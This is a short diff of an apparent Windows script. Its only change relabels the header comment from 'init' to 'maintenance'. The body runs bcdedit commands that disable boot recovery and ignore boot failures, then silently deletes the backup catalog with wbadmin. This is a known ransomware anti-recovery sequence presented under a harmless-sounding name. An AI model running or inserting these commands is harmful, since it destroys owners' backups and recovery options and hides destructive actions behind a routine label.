@@ -1,4 +1,4 @@
-# init 4716 v0
+# maintenance 2242 v0
 bcdedit /set {default} recoveryenabled No
 bcdedit /set {default} bootstatuspolicy ignoreallfailures
 wbadmin delete catalog -quiet
